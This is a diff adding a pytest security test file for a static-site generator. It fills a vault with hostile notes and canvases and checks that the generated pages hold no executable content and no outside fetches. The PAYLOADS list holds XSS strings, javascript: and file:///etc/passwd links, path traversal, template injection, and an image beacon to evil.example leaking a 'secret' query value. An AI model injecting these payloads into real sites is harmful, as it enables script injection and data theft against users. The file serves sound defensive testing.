@@ -1,0 +1,166 @@
+"""Text from outside, in every place of a vault: on the site it is read, never obeyed."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+
+from tests.site.scratch import Scratch
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "' onmouseover='alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea></style></noscript><script>alert(1)</script>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](obsidian://new?vault=v&content=c)",
+    "[x](//evil.example/x)",
+    "[x](\\\\evil.example\\x)",
+    "[x]( https://ok.example/\" onclick=\"alert(1) )",
+    "<javascript:alert(1)>",
+    "<https://ok.example/?a=%22%3E%3Cscript%3E>",
+    "![x](https://evil.example/?q=secret)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[r]: https://evil.example/track\n\n![r][r]",
+    "[[x|<script>alert(1)</script>]]",
+    "[[\"onclick=alert(1)]]",
+    "![[../../../../etc/passwd]]",
+    "![[https://evil.example/x.png]]",
+    "#<script>alert(1)</script>",
+    "{{ 7 * 7 }}{% raw %}",
+    "<% tp.system.prompt() %>",
+    "```base\nviews: [{name: '<script>alert(1)</script>', type: table, order: ['<b>']}]\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    "> [!\"><script>] x\n> y",
+    "> [!note]- <script>alert(1)</script>\n> y",
+    "| <script>alert(1)</script> |\n| :---: |\n| <img onerror=alert(1)> |",
+    "text ^\"><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+    "\u202egnirts\u0000\ufffe\x1b]0;x\x07",
+    "\0000\0 \x001\x00",
+    "==<script>alert(1)</script>== ~~<b onclick=alert(1)>~~",
+    "%%<script>alert(1)</script>%%",
+)  # fmt: skip
+ALLOWED_SCHEMES = ("http://", "https://", "mailto:")
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Scratch:
+    """A site whose every field is hostile, built once."""
+    scratch = Scratch(tmp_path_factory.mktemp("hostile"))
+    for number, payload in enumerate(PAYLOADS):
+        value = json.dumps(payload.replace("\x00", ""))
+        kind = ("report", "source", "x")[number % 3]
+        head = "".join(f"{name}: {value}\n" for name in ("title", "source_url", "status", "description", "created", "'<b>'"))
+        text = f"---\n{head}kind: {kind}\ntags: [{value}, 'a{number}']\naliases: [{value}]\nlist: [{value}]\n---\n"
+        scratch.write(
+            f"reports/2026/n{number}.md", f"{text}# {payload}\n\n## {payload}\n\n{payload}\n\n- {payload}\n\n> {payload}\n"
+        )
+        nodes = [
+            {"id": payload, "type": "text", "text": payload, "x": 0, "y": 0, "width": 300, "height": 90, "color": payload},
+            {"id": "f", "type": "file", "file": payload, "x": 400, "y": 0, "width": 300, "height": 90},
+            {"id": "g", "type": "group", "label": payload, "x": 0, "y": 0, "width": 9, "height": 9},
+            {"id": "l", "type": "link", "url": payload, "x": 0, "y": 0, "width": 9, "height": 9},
+        ]
+        edges = [{"id": "e", "fromNode": payload, "toNode": "f", "label": payload, "fromSide": payload}]
+        scratch.write(f"canvas/c{number}.canvas", json.dumps({"nodes": nodes, "edges": edges}))
+        scratch.write(
+            f"my/embeds{number}.md", f"![[n{number}]]\n\n![[c{number}.canvas]]\n\n![[n{number}#{payload}]]\n\n[[n{number}]]\n"
+        )
+    for number, name in enumerate(("<img src=x onerror=alert(1)>", "a\"b'c&d", "java script:x", "#%3Cscript%3E ?x")):
+        scratch.write(f"my/{name}.md", f"# Name {number}\n\n[[Home]]")
+    scratch.build(url="https://example.org/")
+    return scratch
+
+
+def test_no_page_holds_anything_that_acts(site: Scratch) -> None:
+    pages = [path for path in site.files() if path.endswith(".html")]
+    assert len(pages) > 2 * len(PAYLOADS)
+    for path in pages:
+        page = site.page(path)
+        for script in page.css("script"):
+            assert (script.attributes.get("src") or "").startswith(("../", "assets/", "/assets/"))
+            assert not script.text().strip()
+        assert not page.css("iframe, object, embed, style, base, form[action*=':'], foreignObject")
+        for node in page.css("*"):
+            assert not [name for name in node.attributes if name.startswith("on") or name == "style"], (path, node.html)
+
+
+def test_every_address_leads_to_the_web_to_mail_or_into_the_site(site: Scratch) -> None:
+    for path in (path for path in site.files() if path.endswith(".html")):
+        for node in site.page(path).css("[href]"):
+            address = node.attributes["href"] or ""
+            scheme = address.partition(":")[0] if ":" in address.split("/")[0].split("?")[0].split("#")[0] else ""
+            assert not scheme or address.lower().startswith(ALLOWED_SCHEMES), (path, address)
+            assert not address.startswith(("//", "\\")), (path, address)
+
+
+def test_nothing_is_fetched_from_elsewhere(site: Scratch) -> None:
+    for path in (path for path in site.files() if path.endswith(".html")):
+        for node in site.page(path).css("[src], [srcset], [poster], [background], link[rel=stylesheet]"):
+            address = node.attributes.get("src") or node.attributes.get("href") or ""
+            assert "//" not in address, (path, node.html)
+            assert "srcset" not in node.attributes
+
+
+def test_the_feed_and_the_map_stay_well_formed(site: Scratch) -> None:
+    for path in ("feed.xml", "sitemap.xml"):
+        ElementTree.fromstring(site.files()[path])  # noqa: S314 - our own
+
+
+def test_the_index_is_text_and_nothing_else(site: Scratch) -> None:
+    for path, data in site.files().items():
+        if path.startswith("search/") and path.endswith(".js"):
+            call, _, rest = data.decode("ascii").partition(",")
+            assert call.startswith('researchIndex("')
+            json.loads(rest.removesuffix(");\n"))
+
+
+def test_a_policy_stands_first_in_each_page(site: Scratch) -> None:
+    for path in (path for path in site.files() if path.endswith(".html")):
+        policy = site.page(path).css_first('meta[http-equiv="Content-Security-Policy"]')
+        assert policy is not None
+        words = policy.attributes["content"] or ""
+        assert "default-src 'none'" in words
+        assert "unsafe" not in words
+
+
+@pytest.mark.parametrize(
+    "drawing",
+    [
+        "<svg><script>x</script></svg>",
+        "<svg onload='x'/>",
+        "<svg><a href='javascript:x'/></svg>",
+        "<svg><foreignObject/></svg>",
+        '<!ENTITY x "y"><svg/>',
+    ],
+)
+def test_a_drawing_that_may_act_is_not_copied(tmp_path: Path, drawing: str) -> None:
+    scratch = Scratch(tmp_path)
+    scratch.write("img/a.svg", drawing)
+    scratch.write("img/b.svg", "<svg><rect/></svg>")
+    report = scratch.build()
+    assert "img/a.svg" not in scratch.files()
+    assert "img/b.svg" in scratch.files()
+    assert report.problems == ("img/a.svg: not copied: it may run scripts",)
+
+
+def test_properties_that_cannot_be_read_do_not_hide_the_note(tmp_path: Path) -> None:
+    scratch = Scratch(tmp_path)
+    scratch.write("my/a.md", "---\ntitle: [unclosed\n\tx: y\n---\n\nThe text.")
+    scratch.write("my/b.md", b"\xff\xfe not UTF-8 \xc3")
+    scratch.write("my/c.md", "---\n&a [*a]\n---\n" + "> " * 500 + "deep\n" + "[" * 500)
+    scratch.build()
+    assert "The text." in scratch.html("my/a.html")
+    assert "not UTF-8" in scratch.html("my/b.html")
